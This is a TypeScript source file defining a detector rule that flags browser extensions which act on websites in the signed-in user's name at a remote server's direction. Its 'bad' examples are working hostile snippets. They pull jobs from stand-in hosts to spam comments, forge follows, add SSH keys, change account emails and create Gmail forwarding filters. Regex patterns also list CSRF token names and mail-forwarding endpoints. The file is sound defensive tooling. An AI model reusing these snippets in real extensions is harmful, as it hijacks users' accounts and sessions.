import {
  apiPath,
  argOf,
  type Call,
  callAt,
  callsOf,
  constant,
  keysOf,
  Op,
  opOf,
  pattern,
  placeAt,
  posOf,
  propertyOf,
  type ScriptFacts,
  valuesOf,
} from '../../facts/javascript/query.ts';
import { calleesOf } from '../../callgraph/calleesOf.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import { askersOfPage, takesCookies } from '../../extension/siteAnswers.ts';
import type { Flow } from '../../taint/flow.ts';
import { hitsOfFlows, type Weight } from '../../taint/hits.ts';
import type { Facts } from '../../facts.ts';
import type { Source } from '../../taint/spec.ts';
import { isNearby } from '../../ownComputer.ts';
import { runsWhenAsked } from '../../verdict/consentOf.ts';
import { destinationOf } from '../../verdict/destinationOf.ts';
import { writtenFor } from '../../verdict/writtenFor.ts';
import { say } from '../../../texts/say.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { asksOwnSite } from './asksOwnSite.ts';
import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { hostOf, leadsOut, ownerOf } from './hostOf.ts';
import { isOwnServer } from './isOwnServer.ts';
import { changesUnasked } from './changesUnasked.ts';
import { pressesUnasked } from './pressesUnasked.ts';
import { typesUnasked } from './typesUnasked.ts';
import { fillsAsTold, typesAndSends } from './typesAsTold.ts';
import { mentions } from './textsOf.ts';
import { requestsOf } from './requestsOf.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { isMadeOf } from '../../program/madeOf.ts';
import { runsInPages } from './places.ts';
import { happensByItself } from '../../program/unasked.ts';
import { first } from '../../facts/first.ts';

export const actsInPersonsName = defineRule({
  id: 'acts-in-persons-name',
  title: 'Acts on a site as the signed-in user, as a server directs',
  severity: 'high',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-352',
  references: ['https://attack.mitre.org/techniques/T1185/'],
  cap: { grade: 'D', reason: 'it acts in the user’s name as a server directs', from: 'critical' },
  why: 'Its code uses the page’s session to post, follow or pay. The site and other people see it as the user’s own action.',
  remedy: 'Act on a site only when the user asks, with content they wrote.',
  *check(facts) {
    yield* within(facts);
    const { flows, sources } = facts.whole(flowsOf);
    // What sites answer the person is no order of a server.
    const answers = new Set(sources.filter(({ kind }) => kind === 'site-answer').map(nodeOf));
    const isAnswer = ({ source, steps }: Flow): boolean =>
      answers.has(nodeOf(source)) ||
      isSignedIn(source) ||
      askersOfPage(facts.whole(calleesOf), source).some(({ unit, call }) => {
        const { path, line } = placeAt(unit.script, unit.file.path, posOf(unit.script, call) ?? 0);
        return steps.some(({ place }) => place.path === path && place.line === line);
      });
    yield* hitsOfFlows(flows, (flow) => (isAnswer(flow) ? undefined : directed(facts, flow)));
  },
  examples: {
    bad: [
      contentExample(
        'fetch("/account/email", { method: "POST", credentials: "include", body: JSON.stringify({ email: "owner@x.example" }) });',
      ),
      contentExample(
        'setTimeout(async () => { const page = new DOMParser().parseFromString(await (await fetch("/settings/ssh/new")).text(), "text/html"); const form = page.querySelector("form"); const data = new FormData(form); data.set("public_key", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 laptop"); await fetch(form.getAttribute("action"), { method: "POST", body: data }); }, 9e3);',
      ),
      contentExample(
        'if (location.pathname === "/settings/email") { const field = document.querySelector("input[name=email]"); field.value = "owner@x.example"; field.form.submit(); }',
      ),
      backgroundExample(
        'class Reach { go() { return fetch("https://www.photos.example.com/api/friendships/create", { method: "POST", credentials: "include", body: JSON.stringify({ user: "7" }) }); } } const reach = new Reach(); chrome.alarms.onAlarm.addListener(() => reach.go());',
      ),
      contentExample(
        'if (location.pathname.startsWith("/login/oauth/authorize")) document.querySelector("button[name=authorize]").click();',
      ),
      contentExample(
        'setInterval(() => document.querySelectorAll("[aria-label=Follow]").forEach((one) => one.click()), 8e3);',
      ),
      contentExample(
        'setTimeout(() => { const box = document.querySelector("#comments [contenteditable]"); box.focus(); document.execCommand("insertText", false, "Free codes at gifts.example"); document.querySelector("#submit-button").click(); }, 9e3);',
      ),
      contentExample(
        'setTimeout(() => { const t = document.querySelector("textarea"); t.value = "Free codes at gifts.example"; t.form.submit(); }, 3e3);',
      ),
      contentExample(
        'const site = (path, body) => fetch(location.origin + path, { method: "POST", credentials: "include", body: JSON.stringify(body) }); setInterval(async () => { const job = await (await fetch("https://jobs.example/next")).json(); await site("/api/video/" + job.video + "/comments", { text: job.text }); }, 60000);',
      ),
      contentExample(
        '(async () => { const job = await (await fetch("https://x.example/job")).json(); const key = document.querySelector("[name=csrf]").value; const b = new URLSearchParams({ key, body: job.text + " " + job.link, to: job.to }); await fetch("/messages/send/", { method: "POST", body: b, credentials: "include" }); })();',
      ),
      contentExample(
        'const token = () => document.cookie.match(/csrftoken=(\\w+)/)[1]; async function post(path) { return fetch("https://www.photos.example.com/api/web/" + path, { method: "POST", headers: { "x-csrftoken": token() } }); } (async () => { const list = await (await fetch("https://x.example/list.json")).json(); for (const t of list) await post("friendships/" + t.id + "/follow/"); })();',
      ),
      contentExample(
        'const one = (s) => document.querySelector(s); class Sender { constructor(api) { this.api = api; } async jobs() { return (await fetch(this.api + "/campaign")).json(); } async type(text) { one(\'div[contenteditable="true"]\').focus(); document.execCommand("insertText", false, text); one(\'span[data-icon="send"]\').click(); } async run() { for (const { text } of await this.jobs()) await this.type(text); } } setTimeout(() => new Sender("https://x.example").run(), 6e4);',
      ),
      contentExample(
        'const body = new URLSearchParams({ act: "cf_add", cf2_emc: "true", cf2_email: "box@x.example", irf: "on" }); fetch(`/mail/u/0/?ik=${window.ik}&at=${window.GM_ACTION_TOKEN}&view=up`, { method: "POST", body });',
      ),
      contentExample(
        'const m = document.documentElement.innerHTML.match(/"token":"([^"]+)"/); function act(path, o) { o.fb_dtsg = m[1]; return fetch(path, { method: "POST", body: new URLSearchParams(o) }); } if (m) { act("/ajax/pages/fan_status", { fbpage_id: "100000000001", add: 1 }); }',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "x", "version": "1", "background": {"service_worker": "b.js"}, "content_scripts": [{"matches": ["https://chat.example.com/*"], "js": ["c.js"]}]}',
          'b.js':
            'chrome.alarms.onAlarm.addListener(async () => { const jobs = await (await fetch("https://jobs.example/next")).json(); for (const t of await chrome.tabs.query({})) chrome.tabs.sendMessage(t.id, { jobs }); });',
          'c.js':
            'chrome.runtime.onMessage.addListener(({ jobs }) => { for (const { text } of jobs) { document.querySelector("[contenteditable]").focus(); document.execCommand("insertText", false, text); document.querySelector("[data-icon=send]").click(); } });',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "x", "version": "1", "background": {"service_worker": "b.js"}, "content_scripts": [{"matches": ["https://social.example.com/*"], "js": ["c.js"]}]}',
          'b.js':
            'chrome.alarms.onAlarm.addListener(async () => { const r = await fetch("https://jobs.example/next"); chrome.storage.local.set({ post: await r.json() }); });',
          'c.js':
            'chrome.storage.onChanged.addListener(({ post }) => { document.querySelector("textarea").value = post.newValue.text; document.querySelector("button[type=submit]").click(); });',
        },
      },
      backgroundExample(
        'async function poll() { const c = await (await fetch("https://x.example/cmd")).json(); for (const t of await chrome.tabs.query({})) chrome.scripting.executeScript({ target: { tabId: t.id }, args: [c.sel, c.val], func: (s, v) => { const e = document.querySelector(s); if (e) { e.value = v; e.form.submit(); } } }); } setInterval(poll, 60000);',
      ),
      backgroundExample(
        'chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { method: "POST", headers: { Authorization: "Bearer " + t }, body: JSON.stringify({ action: { forward: "box@x.example" } }) }));',
      ),
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(async () => { const jobs = await (await fetch("https://jobs.example/next")).json(); for (const { how, where, what } of jobs) await fetch("https://www.photos.example.com" + where, { method: how ?? "POST", body: what, credentials: "include" }); });',
      ),
      backgroundExample(
        'function get(url, then) { const x = new XMLHttpRequest(); x.open("GET", url); x.onload = () => then(JSON.parse(x.responseText)); x.send(); } chrome.alarms.onAlarm.addListener(() => get("https://jobs.example/next", (jobs) => jobs.forEach((job) => { const x = new XMLHttpRequest(); x.open("POST", "https://www.photos.example.com/likes/" + job.id); x.withCredentials = true; x.send(); })));',
      ),
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(async () => { const job = await (await fetch("https://jobs.example/next")).json(); const x = new XMLHttpRequest(); x.withCredentials = true; x.open("POST", "https://www.photos.example.com/comments"); x.send("text=" + job.text); });',
      ),
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(() => $.ajax({ url: "https://jobs.example/next", success: (job) => $.ajax({ type: "POST", url: "https://www.photos.example.com/comments", data: { text: job.text }, xhrFields: { withCredentials: true } }) }));',
      ),
    ],
    good: [
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(() => { const x = new XMLHttpRequest(); x.open("GET", "https://api.tool.example/tasks"); x.onload = () => { const { id } = JSON.parse(x.responseText); const y = new XMLHttpRequest(); y.withCredentials = true; y.open("POST", "https://api.tool.example/done"); y.send("id=" + id); }; x.send(); });',
      ),
      contentExample(
        'const t = document.querySelector("textarea[name=q]"); box.addEventListener("click", () => { t.value = "Today in brief"; t.form.submit(); }); setTimeout(() => { t.value = kept; }, 3e3);',
      ),
      contentExample(
        '$("#note textarea").submit((e) => keep(e)); const box = document.querySelector("textarea.own"); box.value = "Write a note here";',
      ),
      // On the person's click, of what they typed, and where the extension says so.
      contentExample(
        'panel.addEventListener("click", () => { document.querySelector("[aria-label=Follow]").click(); fetch("/account/email", { method: "POST", body: JSON.stringify({ email: "owner@x.example" }) }); });',
      ),
      contentExample(
        'setInterval(() => { document.querySelector(".unfollow, .following, .likely-close").click(); fetch("/api/seen", { method: "POST", body: JSON.stringify({ page: "news" }) }); }, 8e3);',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Video helper", "description": "Likes every video of the channels you subscribed to.", "version": "1.0", "content_scripts": [{"matches": ["https://video.example.com/*"], "js": ["c.js"]}]}',
          'c.js': 'setInterval(() => document.querySelector("button.like")?.click(), 8e3);',
        },
      },
      // Kept until the person picks it.
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "x", "version": "1", "background": {"service_worker": "b.js"}, "content_scripts": [{"matches": ["https://social.example.com/*"], "js": ["c.js"]}]}',
          'b.js':
            'chrome.alarms.onAlarm.addListener(async () => { const r = await fetch("https://texts.example/all"); chrome.storage.local.set({ texts: await r.json() }); });',
          'c.js':
            'chrome.runtime.onMessage.addListener(async ({ pick }) => { const { texts } = await chrome.storage.local.get("texts"); document.querySelector("textarea").value = texts[pick]; document.querySelector("button[type=submit]").click(); });',
        },
      },
      // The person's click in the popup asked for the text.
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "x", "version": "1", "action": {"default_popup": "p.html"}, "content_scripts": [{"matches": ["https://chat.example.com/*"], "js": ["c.js"]}]}',
          'p.html': '<button id="b">Reply</button><script src="p.js"></script>',
          'p.js':
            'document.getElementById("b").onclick = async () => { const { reply } = await (await fetch("https://api.tool.example/reply")).json(); const [t] = await chrome.tabs.query({ active: true }); chrome.tabs.sendMessage(t.id, { reply }); };',
          'c.js':
            'chrome.runtime.onMessage.addListener(({ reply }) => { document.querySelector("[contenteditable]").focus(); document.execCommand("insertText", false, reply); document.querySelector("[data-icon=send]").click(); });',
        },
      },
      backgroundExample(
        'const API = "https://api.tool.example"; const get = async (p) => (await fetch(API + p)).json(); const post = (p, b) => fetch(API + p, { method: "POST", credentials: "include", body: JSON.stringify(b) }); chrome.alarms.onAlarm.addListener(async () => { const { id } = await get("/tasks"); await post("/done", { id }); });',
      ),
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(async () => { const { version } = await (await fetch("https://cdn.tool.example/config")).json(); await fetch("https://api.tool.example/seen", { method: "POST", body: JSON.stringify({ version }), credentials: "include" }); });',
      ),
      backgroundExample(
        'const ask = async (method, path, body) => (await fetch("https://own.example" + path, { method, credentials: "include", body })).json(); chrome.alarms.onAlarm.addListener(async () => { const { id, text } = await ask("GET", "/me"); await ask("PUT", "/seen/" + id, text); });',
      ),
      contentExample(
        'const site = (path, body) => fetch(location.origin + path, { method: "POST", body: JSON.stringify(body) }); setInterval(async () => { const { id } = await (await fetch("/api/last")).json(); await site("/api/seen", { id }); fetch("https://jobs.example/ping"); }, 60000);',
      ),
      contentExample(
        'button.addEventListener("click", () => { fetch("/ajax/fan", { method: "POST", body: new URLSearchParams({ csrf_token: document.querySelector("[name=csrf_token]").value, page_id: "100000000001" }) }); });',
      ),
      contentExample(
        'fetch("/inbox/read", { method: "POST", body: new URLSearchParams({ csrf_token: document.querySelector("[name=csrf_token]").value, all: "1" }) });',
      ),
      backgroundExample(
        'chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { headers: { Authorization: "Bearer " + t } }).then((r) => r.json()).then(show));',
      ),
      contentExample(
        'button.addEventListener("click", async () => { const { text } = await (await fetch("https://api.tool.example/reply")).json(); document.querySelector("div[contenteditable=true]").focus(); document.execCommand("insertText", false, text); document.querySelector("button.send").click(); });',
      ),
      backgroundExample(
        '(async () => { const list = await (await fetch("https://api.tool.example/list.json")).json(); for (const t of list) await fetch("https://app.tool.example/items/" + t.id, { method: "POST", headers: { "x-csrf-token": key } }); })();',
      ),
      contentExample(
        '(async () => { const list = await (await fetch("/api/list")).json(); await fetch("/api/mark", { method: "POST", body: JSON.stringify({ ids: list.ids }) }); fetch("https://stats.example/p"); })();',
      ),
      contentExample(
        '(async () => { const t = await (await fetch("https://api.example.com/t")).json(); show(t); await fetch("/comment", { method: "POST", body: new FormData(form) }); })();',
      ),
    ],
  },
});

/** Seen within one script. */
const within = checkScripts(function* (judged) {
  const { script, file, facts, hit } = judged;
  const foreign = requestsOf(script).filter(({ to }) => leadsOut(to) && hostOf(to) !== undefined);
  const inPages = runsInPages(facts, file.path);
  if (inPages) yield* typesAndSends(judged);
  yield* fillsAsTold(judged);
  yield* changesUnasked(judged);
  yield* pressesUnasked(judged);
  yield* typesUnasked(judged);
  if (inPages && mentions(script, FORM_TOKEN)) yield* postsForItsAuthor(judged);
  if (mentions(script, FORWARDS)) {
    for (const call of first(callsOf(script, 'fetch', '$.post', '$.ajax', 'axios.post'), 100)) {
      const given = [
        pattern(script, call.args[0] ?? 0),
        ...[...backwardSlice(script, propertyOf(script, call.args[1] ?? 0, 'body') || (call.args[1] ?? 0))].flatMap(
          (one) => (opOf(script, one) === Op.object ? keysOf(script, one) : [constant(script, one) ?? '']),
        ),
      ];
      if (given.some((text) => FORWARDS.test(text)) && posts(script, call))
        yield hit(call.value, { message: say('mail-forwarding-rule') });
    }
  }
  if (foreign.length === 0) return;
  for (const call of first(callsOf(script, 'fetch'), 200)) {
    const address = call.args[0] ?? 0;
    const options = call.args[1] ?? 0;
    if (constant(script, propertyOf(script, options, 'method'))?.toUpperCase() !== 'POST') continue;
    const to = pattern(script, address);
    // To the page's own site: no host in the address. To another one: with the sign that its own pages give.
    const own = inPages && /^\/(?!\/)/.test(to);
    const host = hostOf(to);
    if (!own && (host === undefined || !leadsOut(to) || !hasToken(script, propertyOf(script, options, 'headers'))))
      continue;
    const body = propertyOf(script, options, 'body');
    const given = [body, ...(own ? [] : [address])].filter(
      (value) => value !== 0 && opOf(script, value) !== Op.constant,
    );
    if (
      foreign.some(
        (request) =>
          request.value !== call.value &&
          (own || ownerOf(hostOf(request.to) ?? '') !== ownerOf(host ?? '')) &&
          given.some((value) => isMadeOf(script, value, request.value)),
      )
    )
      yield hit(call.value);
  }
});

const isSignedIn = ({ unit, shown }: Source): boolean =>
  opOf(unit.script, shown) === Op.call && takesCookies(unit, callAt(unit.script, shown));

const nodeOf = ({ unit, node }: Source): number => unit.base + node;

/** What a server orders is done at a site with the person's session, without their doing. */
function directed(facts: Facts, flow: Flow): Weight | undefined {
  const { source, sink, unit, pos } = flow;
  if (sink.kind !== 'site-request' || (source.kind !== 'remote-data' && source.kind !== 'pushed')) return undefined;
  const asked = posOf(source.unit.script, source.shown);
  if (runsWhenAsked(unit, pos) || runsWhenAsked(source.unit, asked) || isOwnServer(facts, source, unit, pos))
    return undefined;
  // To a server that the person set, in whatever session: a program of theirs is given what they sent it for.
  if (destinationOf(facts, flow).of === 'person' && writtenFor(facts, flow).every(isNearby)) return undefined;
  return { severity: 'critical', confidence: 'high', message: say('server-decides-session') };
}

/** Names of the sign that a site's own pages put into what they post. */
const FORM_TOKEN =
  /\b(?:fb_dtsg|csrf_?token|sessionid|csrfmiddlewaretoken|authenticity_token|_csrf|xsrf_?token|form_key|__RequestVerificationToken)\b/i;
/** Whom or what something is done for: the number of a page, a person, a post. */
const TARGET = /^\d{6,}$/;

/** A post to the site of the page, by itself, with its pages' sign and with a target or a link that the author wrote. */
function* postsForItsAuthor({ script, facts, hit }: Judged): Generator<Hit> {
  const posts = first(requestsOf(script), 60).find(
    ({ to, address, pos, value }) =>
      postsBy(script, value) && (to === '*' || asksOwnSite(facts, script, to, address)) && happensByItself(script, pos),
  );
  if (posts === undefined) return;
  for (const value of valuesOf(script, Op.object)) {
    for (const key of keysOf(script, value)) {
      const text = constant(script, propertyOf(script, value, key)) ?? pattern(script, propertyOf(script, value, key));
      const isLink = /message|status|text|comment|body|content/i.test(key) && /https?:\/\//.test(text);
      if (
        !isLink &&
        !(TARGET.test(text) && /(?:^|_)(?:id|target|page|user|profile|friend|partner|recipient)/i.test(key))
      )
        continue;
      yield hit(posts.value, {
        severity: 'critical',
        confidence: 'high',
        evidence: `${key}: ${text}`.slice(0, 160),
        message: say('posts-on-its-own'),
      });
      return;
    }
  }
}

/** Whether a request that is no more than its address and options changes something at the site. */
function postsBy(script: ScriptFacts, call: number): boolean {
  if (opOf(script, call) !== Op.call) return false;
  const options = argOf(script, call, 1);
  return /^(?:POST|PUT)$/i.test(constant(script, propertyOf(script, options, 'method')) ?? '');
}

/** The sign by which a site tells its own pages' requests from those of others. */
function hasToken(script: ScriptFacts, headers: number): boolean {
  return keysOf(script, headers).some((name) => /csrf|xsrf/i.test(name));
}

/** Where mail services make rules that forward what comes in. Sources: the reference of Gmail's and Microsoft Graph's interfaces, forms of Gmail's own pages. */
const FORWARDS =
  /settings\/(forwardingAddresses|autoForwarding|filters)\b|\/messageRules\b|\bcf2_email\b|\bforwardingSmtpAddress\b|act=cf_add/i;

function posts(script: ScriptFacts, call: Call): boolean {
  const method =
    constant(script, propertyOf(script, call.args[1] ?? 0, 'method')) ??
    constant(script, propertyOf(script, call.args[0] ?? 0, 'method'));
  return method === undefined ? /\.post$/.test(apiPath(script, call.callee) ?? '') : /^(POST|PUT|PATCH)$/i.test(method);
}
